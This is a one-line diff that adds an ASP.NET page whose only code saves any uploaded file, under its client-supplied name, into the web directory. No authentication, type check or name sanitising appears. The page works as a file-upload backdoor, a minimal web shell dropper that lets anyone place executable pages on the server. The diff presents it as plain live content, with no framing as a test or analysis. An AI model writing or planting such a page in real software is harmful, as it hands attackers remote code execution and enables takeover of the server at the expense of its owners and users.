@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><%@ Import Namespace="System.IO" %><% HttpPostedFile thisFile = Request.Files[0];thisFile.SaveAs(Path.Combine(Server.MapPath("."), thisFile.FileName)); %>
